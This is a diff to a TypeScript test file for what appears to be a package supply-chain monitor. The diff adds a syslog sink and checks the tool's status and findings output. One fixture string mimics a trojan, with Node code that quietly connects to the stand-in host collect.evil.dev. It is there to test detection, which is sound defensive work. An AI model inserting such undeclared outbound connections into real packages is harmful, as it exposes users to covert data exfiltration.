@@ -11,10 +11,13 @@ import { copyStore } from "@countersign/world/copy-store";
 import { liveProject } from "./live-project.test-support.ts";
 import { countersignJson } from "./transcript.test-support.ts";
 
-const { base, project, refused, said, world } = await liveProject({
-  monitors: [{ holder: "observe-dave", owner: "dave" }],
-  brake: { bits: 12, askers: [{ holder: "brake-dave", owner: "dave" }] },
-});
+const { base, project, refused, said, world } = await liveProject(
+  {
+    monitors: [{ holder: "observe-dave", owner: "dave" }],
+    brake: { bits: 12, askers: [{ holder: "brake-dave", owner: "dave" }] },
+  },
+  { sinks: [{ name: "logs", kind: "syslog", least: "Critical", host: "127.0.0.1", port: 9, caFile: null }] },
+);
 
 /** What a trojan starts to do, and does not declare. */
 const talking = 'import { connect } from "node:net";\nconnect(443, "collect.evil.dev");\n';
@@ -125,7 +128,7 @@ test("from a directory to a device, and back, by the commands that the help show
     "--sarif",
   );
   assert.ok(runs[0]?.results.some(({ ruleId, level }) => ruleId === "privilege-undeclared" && level === "warning"));
-  assert.match(await said("observe", "status"), /It sees\. [\s\S]*observe-dave +heard/);
+  assert.match(await said("observe", "status"), /It sees\. [\s\S]*Sink logs: 0 to send\.[\s\S]*observe-dave +heard/);
   assert.match(
     await said("observe", "findings", "--severity", "Medium"),
     /Medium +A release changes what benign ones seldom change +hello 1\.2\.0 stable/,
